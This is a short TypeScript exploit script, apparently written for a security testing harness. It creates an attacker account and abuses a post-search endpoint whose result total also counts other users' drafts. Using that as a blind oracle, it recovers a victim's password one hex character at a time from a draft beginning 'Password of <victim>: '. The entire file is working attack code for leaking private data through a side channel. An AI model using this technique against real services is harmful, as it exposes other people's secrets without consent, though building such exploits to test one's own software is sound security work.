import { exploit } from '#attack';

/** The total also counts the drafts of others, so it says whether one of them contains these words. */
export default exploit(async ({ target, victim, say }) => {
  const attacker = target.client();
  const email = `attacker-${Date.now()}@example.com`;
  const headers = { 'X-Account-Key': (await attacker.post('/accounts', { email })).expect(201).body.key };
  const isSomewhere = async (words: string) => {
    const { body } = await attacker.get(`/posts?q=${encodeURIComponent(words)}`, { headers });
    return body.total > body.posts.length;
  };

  const begin = `Password of ${victim}: `;
  let password = '';
  while (password.length < 12) {
    let next: string | undefined;
    for (const digit of '0123456789abcdef') {
      if (next === undefined && (await isSomewhere(begin + password + digit))) next = digit;
    }
    if (next === undefined) return undefined;
    password += next;
    say(password);
  }
  return password;
});
